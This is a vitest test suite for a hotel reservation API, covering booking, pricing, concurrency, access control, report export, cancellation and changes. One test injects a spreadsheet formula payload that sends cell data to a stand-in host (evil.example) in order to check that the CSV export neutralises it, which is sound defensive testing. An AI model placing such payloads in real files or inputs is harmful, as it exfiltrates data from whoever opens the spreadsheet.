import { addDays, hotelToday } from '@hotel/contract'
import { eq } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { clients, hotelSettings, reservationRooms, reservations, rooms } from '../../db/schema/index.ts'
import { longDate } from '../../lib/format.ts'
import { createTestContext, memoryMailer, registerNewGuest, type TestContext } from '../../test/harness.ts'
import { newReference } from './service.ts'

const mailer = memoryMailer()
let ctx: TestContext
let ana: Awaited<ReturnType<typeof registerNewGuest>>
let ben: Awaited<ReturnType<typeof registerNewGuest>>

beforeAll(async () => {
  ctx = await createTestContext({ RATE_LIMIT_PER_MINUTE: '100000' }, { mailer })
  // Ana and Ben book far more unpaid stays here than a guest may hold; the limit has its own tests.
  await ctx.database.db.update(hotelSettings).set({ maxUnpaidReservations: 100 })
  ana = await registerNewGuest(ctx, { name: 'Ana', last_name: 'Rizo 1' })
  ben = await registerNewGuest(ctx, { name: 'Ben', last_name: 'Rizo 2' })
})
afterAll(() => ctx?.close())

const inDays = (days: number) => addDays(hotelToday(), days)
const auth = (who: { token: string }, lang = 'en') => ({
  Authorization: `Bearer ${who.token}`,
  'Accept-Language': lang,
})

function book(who: { token: string }, body: Record<string, unknown>, lang = 'en', baseUrl?: string) {
  const payload = { category: 'tourism', ...body }
  if (!baseUrl)
    return ctx.http('/api/v1/reservations', { method: 'POST', body: payload, headers: auth(who, lang) })
  return fetch(`${baseUrl}/api/v1/reservations`, {
    method: 'POST',
    headers: { ...auth(who, lang), 'content-type': 'application/json' },
    body: JSON.stringify(payload),
  }).then(async (r) => ({ status: r.status, body: await r.json() }))
}

const stay = (from: number, to: number, roomList: { number: number; guest_count: number }[]) => ({
  check_in: inDays(from),
  check_out: inDays(to),
  rooms: roomList,
})

async function liveRows(number: number) {
  const { db } = ctx.database
  const [room] = await db.select().from(rooms).where(eq(rooms.number, number))
  return (
    await db
      .select()
      .from(reservationRooms)
      .where(eq(reservationRooms.roomId, room?.id ?? ''))
  ).filter((r) => !r.canceled)
}

describe('POST /reservations', () => {
  it('books rooms at the price the server computes, with the guest from the profile', async () => {
    const res = await book(ana, {
      ...stay(10, 13, [
        { number: 104, guest_count: 2 },
        { number: 101, guest_count: 1 },
      ]),
      estimated_arrival_time: '16:30',
      additional_description: 'Late dinner, please',
    })
    expect(res.status).toBe(201)
    expect(res.body.message).toMatch(/^Your reservation [A-Z2-9]{4}-[A-Z2-9]{4} is confirmed\.$/)
    const r = res.body.data
    expect(r).toMatchObject({
      check_in: inDays(10),
      check_out: inDays(13),
      nights: 3,
      status: 'reserved',
      payment_status: 'pending',
      category: 'tourism',
      estimated_arrival_time: '16:30',
      user: { email: ana.facts.email, name: 'Ana Rizo 1', country: 'NI' },
      can_change: true,
      change_deadline: inDays(8),
    })
    expect(r.rooms.map((room: { number: number }) => room.number)).toEqual([101, 104])
    // The same stay priced by the catalogue.
    const search = await ctx.http(
      `/api/v1/rooms?check_in=${inDays(10)}&check_out=${inDays(13)}&adults=2&type=double&per_page=100`,
    )
    expect(search.body.data.map((room: { number: number }) => room.number)).not.toContain(104)
    const double = r.rooms.find((room: { number: number }) => room.number === 104)
    const other = search.body.data.find((room: { number: number }) => room.number === 105)
    expect(double.raw_tariff).toBe(other.price.total_cents)
    expect(double.tariff).toBe(other.price.total_after_promotion_cents)
    expect(double.promotion).toMatchObject({ promotional_code: 'VERDE15', discount: 15 })
    expect(r.total).toBe(r.rooms.reduce((sum: number, room: { tariff: number }) => sum + room.tariff, 0))
    expect(r.raw_total).toBeGreaterThan(r.total)
    // The answer is written from what the booking inserted; read back, the reservation is the same.
    expect(double.promotion.name).toBeTruthy()
    const read = await ctx.http(`/api/v1/reservations/${r.id}`, { headers: auth(ana) })
    expect(read.body.data).toEqual(r)
  })

  it('mails the confirmation in the language the guest booked in, and only in it', async () => {
    const res = await book(ben, stay(20, 22, [{ number: 201, guest_count: 1 }]), 'es')
    expect(res.status).toBe(201)
    const reference = res.body.data.reference
    await vi.waitFor(() => expect(mailer.last(ben.facts.email)?.subject).toContain(reference))
    const mail = mailer.last(ben.facts.email)
    expect(mail?.subject).toBe(`Hotel Casa Pinar: reservación ${reference} confirmada`)
    expect(mail?.text).toContain(`Su reservación ${reference} está confirmada.`)
    expect(mail?.text).toContain(`Llegada: ${longDate('es', inDays(20))}, desde las 3:00`)
    expect(mail?.text).not.toContain('Check-out')
    expect(mail?.html).toContain('lang="es"')
  })

  it('takes the guest details given instead of the profile', async () => {
    const user = {
      email: 'travel@agency.example',
      name: 'Luis Pérez',
      identification: 'P1234567',
      phone: '+1 212 555 0100',
      country: 'US',
    }
    const res = await book(ana, {
      ...stay(30, 31, [{ number: 102, guest_count: 1 }]),
      user,
      category: 'companies',
    })
    expect(res.status).toBe(201)
    expect(res.body.data.user).toEqual(user)
    expect(res.body.data.category).toBe('companies')
  })

  it('lets back-to-back stays both succeed', async () => {
    const first = await book(ana, stay(40, 42, [{ number: 103, guest_count: 1 }]))
    const second = await book(ben, stay(42, 45, [{ number: 103, guest_count: 1 }]))
    const before = await book(ben, stay(38, 40, [{ number: 103, guest_count: 1 }]))
    expect([first.status, second.status, before.status]).toEqual([201, 201, 201])
  })

  it('refuses an overlapping stay with the first taken night, in both languages', async () => {
    await book(ana, stay(50, 54, [{ number: 202, guest_count: 1 }]))
    const en = await book(
      ben,
      stay(48, 52, [
        { number: 203, guest_count: 1 },
        { number: 202, guest_count: 1 },
      ]),
    )
    expect(en.status).toBe(409)
    expect(en.body).toEqual({
      code: 'room_already_booked',
      message: `Room 202 is already booked on ${longDate('en', inDays(50))}.`,
    })
    const es = await book(ben, stay(51, 53, [{ number: 202, guest_count: 1 }]), 'es')
    expect(es.body.message).toBe(`La habitación 202 ya está reservada el ${longDate('es', inDays(51))}.`)
    // Nothing of the refused reservation is left, not even its free room.
    expect(await liveRows(203)).toHaveLength(0)
  })

  it.each([
    [
      { ...stay(5, 3, [{ number: 101, guest_count: 1 }]) },
      'check_out',
      'The check-out date must be after the check-in date.',
    ],
    [
      { ...stay(5, 5, [{ number: 101, guest_count: 1 }]) },
      'check_out',
      'The check-out date must be after the check-in date.',
    ],
    [
      { ...stay(-1, 2, [{ number: 101, guest_count: 1 }]) },
      'check_in',
      'The check-in date cannot be in the past.',
    ],
    [
      { check_in: inDays(1), rooms: [{ number: 101, guest_count: 1 }] },
      'check_out',
      'This field is required.',
    ],
    [{ ...stay(1, 2, []) }, 'rooms', 'Choose at least one room.'],
    [
      {
        ...stay(
          1,
          2,
          Array.from({ length: 11 }, (_, i) => ({ number: 101 + i, guest_count: 1 })),
        ),
      },
      'rooms',
      'A reservation can hold at most 10 rooms.',
    ],
    [
      {
        ...stay(1, 2, [
          { number: 101, guest_count: 1 },
          { number: 101, guest_count: 1 },
        ]),
      },
      'rooms.1.number',
      'This room is already in the reservation.',
    ],
    [
      { ...stay(1, 2, [{ number: 101, guest_count: 0 }]) },
      'rooms.0.guest_count',
      'This field must be at least 1.',
    ],
    [
      { ...stay(1, 2, [{ number: 101, guest_count: 1 }]), category: 'party' },
      'category',
      'The selected value is not valid.',
    ],
    [
      { ...stay(1, 2, [{ number: 101, guest_count: 1 }]), estimated_arrival_time: '25:00' },
      'estimated_arrival_time',
      'Enter a time as HH:MM (24-hour clock).',
    ],
    [{ ...stay(1, 2, [{ number: 101, guest_count: 1 }]), total: 1 }, 'total', 'This field is not allowed.'],
  ])('rejects %j', async (body, field, message) => {
    const res = await book(ana, body)
    expect(res.status).toBe(422)
    expect(res.body.errors[field]).toEqual([message])
  })

  it('checks the guests against the room, the rooms, and the promotional code', async () => {
    const big = await book(ana, stay(60, 61, [{ number: 101, guest_count: 3 }]), 'es')
    expect(big.status).toBe(422)
    expect(big.body.errors['rooms.0.guest_count']).toEqual([
      'La habitación 101 admite como máximo 1 huésped.',
    ])
    const unknown = await book(ana, stay(60, 61, [{ number: 999, guest_count: 1 }]))
    expect([unknown.status, unknown.body.code]).toEqual([404, 'room_not_found'])
    await ctx.database.db.update(rooms).set({ status: 'maintenance' }).where(eq(rooms.number, 209))
    const closed = await book(ana, stay(60, 61, [{ number: 209, guest_count: 1 }]))
    expect(closed.status).toBe(409)
    expect(closed.body).toEqual({
      code: 'rooms_not_available',
      message: 'One or more rooms are not available.',
    })
    await ctx.database.db.update(rooms).set({ status: 'available' }).where(eq(rooms.number, 209))
    const code = await book(ana, {
      ...stay(60, 61, [{ number: 101, guest_count: 1 }]),
      promotional_code: 'NOPE',
    })
    expect([code.status, code.body.code]).toEqual([404, 'promotion_not_found'])
  })

  it('needs a signed-in guest, and complete guest details', async () => {
    const anonymous = await ctx.http('/api/v1/reservations', {
      method: 'POST',
      body: { category: 'tourism', ...stay(1, 2, [{ number: 101, guest_count: 1 }]) },
    })
    expect(anonymous.status).toBe(401)
    await ctx.database.db.update(clients).set({ phone: null }).where(eq(clients.id, ben.id))
    const incomplete = await book(ben, stay(70, 71, [{ number: 101, guest_count: 1 }]))
    expect([incomplete.status, incomplete.body.code]).toEqual([422, 'guest_details_required'])
    await ctx.database.db.update(clients).set({ phone: '50588111002' }).where(eq(clients.id, ben.id))
  })
})

describe('no double booking under load', () => {
  it('lets exactly one of 200 concurrent bookings of one room win', { timeout: 120_000 }, async () => {
    const attempts = await Promise.all(
      Array.from({ length: 200 }, (_, i) =>
        book(
          i % 2 ? ana : ben,
          stay(100 + (i % 3), 103 + (i % 3), [{ number: 205, guest_count: 2 }]),
          i % 4 ? 'en' : 'es',
        ),
      ),
    )
    const won = attempts.filter((a) => a.status === 201)
    const lost = attempts.filter((a) => a.status === 409)
    expect(won).toHaveLength(1)
    expect(lost).toHaveLength(199)
    for (const answer of lost) {
      expect(answer.body.code).toBe('room_already_booked')
      expect(answer.body.message).toMatch(
        /^(Room 205 is already booked on |La habitación 205 ya está reservada el )/,
      )
    }
    expect(await liveRows(205)).toHaveLength(1)
  })

  it('holds across two API instances sharing one PostgreSQL', { timeout: 120_000 }, async (test) => {
    const second = await ctx.secondInstance()
    if (!second) return test.skip()
    try {
      const attempts = await Promise.all(
        Array.from({ length: 200 }, (_, i) =>
          book(
            ana,
            stay(110, 112 + (i % 2), [{ number: 206, guest_count: 2 }]),
            'en',
            i % 2 ? second.baseUrl : ctx.baseUrl,
          ),
        ),
      )
      expect(attempts.filter((a) => a.status === 201)).toHaveLength(1)
      expect(attempts.filter((a) => a.status === 409)).toHaveLength(199)
      expect(await liveRows(206)).toHaveLength(1)
    } finally {
      await second.close()
    }
  })
})

describe('reading reservations', () => {
  it('lists upcoming and history, paged', async () => {
    const past = await book(ana, stay(80, 81, [{ number: 107, guest_count: 1 }]))
    await ctx.http(`/api/v1/reservations/${past.body.data.id}/cancel`, { method: 'POST', headers: auth(ana) })
    const upcoming = await ctx.http('/api/v1/reservations?scope=upcoming&per_page=2', { headers: auth(ana) })
    expect(upcoming.status).toBe(200)
    expect(upcoming.body.data).toHaveLength(2)
    expect(upcoming.body.meta.total).toBeGreaterThanOrEqual(3)
    const checkIns = upcoming.body.data.map((r: { check_in: string }) => r.check_in)
    expect(checkIns).toEqual([...checkIns].sort())
    const history = await ctx.http('/api/v1/reservations?scope=history', { headers: auth(ana) })
    expect(history.body.data.map((r: { id: string }) => r.id)).toContain(past.body.data.id)
    expect(history.body.data.every((r: { status: string }) => r.status === 'canceled')).toBe(true)
    const bad = await ctx.http('/api/v1/reservations?scope=later', { headers: auth(ana) })
    expect(bad.status).toBe(422)
  })

  it('finds my reservation by id or reference; another guest’s is not found', async () => {
    const mine = (await book(ana, stay(84, 85, [{ number: 108, guest_count: 1 }]))).body.data
    const byId = await ctx.http(`/api/v1/reservations/${mine.id}`, { headers: auth(ana) })
    expect(byId.body.data.reference).toBe(mine.reference)
    const byReference = await ctx.http(`/api/v1/reservations/${mine.reference.toLowerCase()}`, {
      headers: auth(ana),
    })
    expect(byReference.body.data.id).toBe(mine.id)
    for (const path of [`/${mine.id}`, `/${mine.reference}`, `/${mine.id}/report?format=csv`]) {
      const theirs = await ctx.http(`/api/v1/reservations${path}`, { headers: auth(ben, 'es') })
      expect(theirs.status).toBe(404)
      expect(theirs.body).toEqual({ code: 'reservation_not_found', message: 'Reservación no encontrada.' })
    }
    const cancelTheirs = await ctx.http(`/api/v1/reservations/${mine.id}/cancel`, {
      method: 'POST',
      headers: auth(ben),
    })
    expect(cancelTheirs.status).toBe(404)
    const list = await ctx.http('/api/v1/reservations?per_page=100', { headers: auth(ben) })
    expect(list.body.data.map((r: { id: string }) => r.id)).not.toContain(mine.id)
  })

  it('exports the detailed report as CSV and PDF', async () => {
    const mine = (await book(ana, stay(86, 88, [{ number: 204, guest_count: 2 }]))).body.data
    const csv = await ctx.http(`/api/v1/reservations/${mine.id}/report?format=csv`, {
      headers: auth(ana, 'es'),
    })
    expect(csv.status).toBe(200)
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(csv.headers.get('content-disposition')).toBe(
      `attachment; filename="reservation-${mine.reference}.csv"`,
    )
    expect(csv.text).toContain(`Reservación ${mine.reference}`)
    expect(csv.text).toContain('204 · Habitación doble · Temporada verde −15\u00a0%,2,')
    expect(csv.text).toContain('Total,,')
    expect(csv.text).toContain('Pagos\r\nFecha,Forma de pago,Importe\r\nPagado,')
    expect(csv.text).toContain(
      // Nothing paid yet: the whole total is due (under USD 1,000, so the cell needs no quotes).
      `Saldo pendiente,${new Intl.NumberFormat('es-NI', { style: 'currency', currency: 'USD' }).format(mine.total / 100)}`,
    )
    const pdf = await fetch(`${ctx.baseUrl}/api/v1/reservations/${mine.id}/report`, { headers: auth(ana) })
    expect(pdf.headers.get('content-type')).toBe('application/pdf')
    const bytes = Buffer.from(await pdf.arrayBuffer())
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-')
    expect(bytes.length).toBeGreaterThan(1000)
    const bad = await ctx.http(`/api/v1/reservations/${mine.id}/report?format=docx`, { headers: auth(ana) })
    expect(bad.status).toBe(422)
  })

  it('neutralises CSV cells that a spreadsheet would run as formulas (names, notes)', async () => {
    const guest = await registerNewGuest(ctx, {
      name: '@SUM(1+1)',
      last_name: 'Formula',
      email: 'formula@example.com',
    })
    const note = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
    const booked = await book(guest, {
      ...stay(96, 97, [{ number: 105, guest_count: 1 }]),
      additional_description: note,
    })
    expect(booked.status).toBe(201)
    const csv = await ctx.http(`/api/v1/reservations/${booked.body.data.id}/report?format=csv`, {
      headers: auth(guest),
    })
    expect(csv.status).toBe(200)
    expect(csv.text).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"\r\n`)
    expect(csv.text).toContain(`,"'@SUM(1+1) Formula · formula@example.com · `)
    // No cell (first in its line or after a separator outside quotes) begins with a formula character.
    for (const line of csv.text.replace('\uFEFF', '').split('\r\n')) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
  })
})

describe('cancel', () => {
  it('cancels, frees the room, mails the guest, and refuses a second cancel', async () => {
    const r = (await book(ana, stay(90, 92, [{ number: 109, guest_count: 1 }]), 'es')).body.data
    const res = await ctx.http(`/api/v1/reservations/${r.id}/cancel`, {
      method: 'POST',
      headers: auth(ana, 'es'),
    })
    expect(res.status).toBe(200)
    expect(res.body.message).toBe(`Su reservación ${r.reference} fue cancelada.`)
    expect(res.body.data).toMatchObject({ status: 'canceled', can_change: false })
    expect(await liveRows(109)).toHaveLength(0)
    await vi.waitFor(() =>
      expect(mailer.last(ana.facts.email)?.subject).toContain(`reservación ${r.reference} cancelada`),
    )
    const again = await ctx.http(`/api/v1/reservations/${r.id}/cancel`, {
      method: 'POST',
      headers: auth(ana),
    })
    expect(again.status).toBe(409)
    expect(again.body).toEqual({
      code: 'reservation_canceled',
      message: 'This reservation is already cancelled.',
    })
    // The room can be booked again for those nights.
    expect((await book(ben, stay(90, 92, [{ number: 109, guest_count: 1 }]))).status).toBe(201)
  })

  it('refuses inside the deadline, naming the days, and for a stay in progress', async () => {
    const soon = (await book(ana, stay(1, 3, [{ number: 206, guest_count: 1 }]))).body.data
    expect(soon.can_change).toBe(false)
    for (const lang of ['en', 'es']) {
      const res = await ctx.http(`/api/v1/reservations/${soon.id}/cancel`, {
        method: 'POST',
        headers: auth(ana, lang),
      })
      expect(res.status).toBe(409)
      expect(res.body.message).toBe(
        lang === 'en'
          ? 'Reservations can be cancelled or modified only up to 2 days before the start.'
          : 'Las reservaciones solo se pueden cancelar o modificar hasta 2 días antes del inicio.',
      )
    }
    const edge = (await book(ana, stay(2, 3, [{ number: 207, guest_count: 1 }]))).body.data
    expect(edge.can_change).toBe(true)
    await ctx.database.db
      .update(reservations)
      .set({ status: 'in_progress' })
      .where(eq(reservations.id, edge.id))
    const running = await ctx.http(`/api/v1/reservations/${edge.id}`, {
      method: 'PATCH',
      body: { category: 'companies' },
      headers: auth(ana),
    })
    expect(running.status).toBe(409)
    expect(running.body.message).toBe('A reservation in progress cannot be modified.')
  })
})

describe('modify', () => {
  it('moves a stay to new dates, re-priced and re-checked', async () => {
    const r = (await book(ana, stay(120, 122, [{ number: 107, guest_count: 2 }]))).body.data
    const res = await ctx.http(`/api/v1/reservations/${r.id}`, {
      method: 'PATCH',
      body: { check_in: inDays(121), check_out: inDays(125), additional_description: 'Quiet room' },
      headers: auth(ana),
    })
    expect(res.status).toBe(200)
    expect(res.body.data).toMatchObject({ check_in: inDays(121), check_out: inDays(125), nights: 4 })
    expect(res.body.data.total).toBeGreaterThan(r.total)
    expect(res.body.data.additional_description).toBe('Quiet room')
    expect((await liveRows(107)).filter((row) => row.reservationId === r.id)).toHaveLength(1)
  })

  it('refuses dates another guest holds, keeping the old stay', async () => {
    await book(ben, stay(130, 133, [{ number: 108, guest_count: 1 }]))
    const r = (await book(ana, stay(126, 129, [{ number: 108, guest_count: 1 }]))).body.data
    const res = await ctx.http(`/api/v1/reservations/${r.id}`, {
      method: 'PATCH',
      body: { check_in: inDays(127), check_out: inDays(131) },
      headers: auth(ana, 'es'),
    })
    expect(res.status).toBe(409)
    expect(res.body.message).toBe(`La habitación 108 ya está reservada el ${longDate('es', inDays(130))}.`)
    const kept = await ctx.http(`/api/v1/reservations/${r.id}`, { headers: auth(ana) })
    expect(kept.body.data).toMatchObject({ check_in: inDays(126), check_out: inDays(129), total: r.total })
  })

  it('changes the rooms, and validates like a booking', async () => {
    const r = (await book(ana, stay(140, 141, [{ number: 101, guest_count: 1 }]))).body.data
    const res = await ctx.http(`/api/v1/reservations/${r.id}`, {
      method: 'PATCH',
      body: { rooms: [{ number: 109, guest_count: 4 }] },
      headers: auth(ana),
    })
    expect(res.status).toBe(200)
    expect(res.body.data.rooms).toMatchObject([{ number: 109, guest_count: 4 }])
    const reversed = await ctx.http(`/api/v1/reservations/${r.id}`, {
      method: 'PATCH',
      body: { check_in: inDays(142), check_out: inDays(141) },
      headers: auth(ana),
    })
    expect(reversed.status).toBe(422)
    const half = await ctx.http(`/api/v1/reservations/${r.id}`, {
      method: 'PATCH',
      body: { check_in: inDays(142) },
      headers: auth(ana),
    })
    expect(half.body.errors.check_out).toEqual(['This field is required.'])
  })
})

describe('references', () => {
  it('are short, unambiguous and distinct', () => {
    const seen = new Set(Array.from({ length: 2000 }, newReference))
    expect(seen.size).toBe(2000)
    for (const reference of seen) expect(reference).toMatch(/^[A-HJKMNP-Z2-9]{4}-[A-HJKMNP-Z2-9]{4}$/)
  })
})
